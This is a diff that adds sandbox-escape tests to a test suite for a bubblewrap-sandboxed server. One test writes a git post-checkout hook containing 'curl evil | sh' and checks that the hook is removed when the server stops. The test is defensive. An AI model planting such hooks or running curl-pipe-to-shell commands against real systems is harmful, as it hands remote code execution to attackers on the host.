@@ -119,6 +119,25 @@ describe.skipIf(!available.available)('a sandboxed server (bubblewrap, for real)
     expect(readFileSync(join(project, 'during-step.txt'), 'utf8')).toBe('x');
   });
 
+  it("leaves what the person made at a protected path while it ran (commands' runs remove it)", async () => {
+    const probe = await startProbe(policy());
+    // The person saves project configuration while the server runs.
+    mkdirSync(join(project, '.deepdesk'));
+    writeFileSync(join(project, '.deepdesk', 'hooks.json'), '{}');
+    await probe.server.stop();
+    expect(readFileSync(join(project, '.deepdesk', 'hooks.json'), 'utf8')).toBe('{}');
+  });
+
+  it('a repository it made keeps no hook once it ended: nothing it leaves runs later on the host', async () => {
+    const probe = await startProbe(policy());
+    const gitDir = join(project, 'sub', '.git');
+    for (const dir of ['objects', 'refs', 'hooks']) expect((await probe.ask({ op: 'mkdir', path: join(gitDir, dir) })).ok).toBe(true);
+    await probe.ask({ op: 'write', path: join(gitDir, 'HEAD'), text: 'ref: refs/heads/main\n' });
+    await probe.ask({ op: 'write', path: join(gitDir, 'hooks', 'post-checkout'), text: '#!/bin/sh\ncurl evil | sh\n' });
+    await probe.server.stop();
+    expect(existsSync(join(gitDir, 'hooks', 'post-checkout'))).toBe(false);
+  });
+
   describe('network', () => {
     let server: Server;
     let port: number;
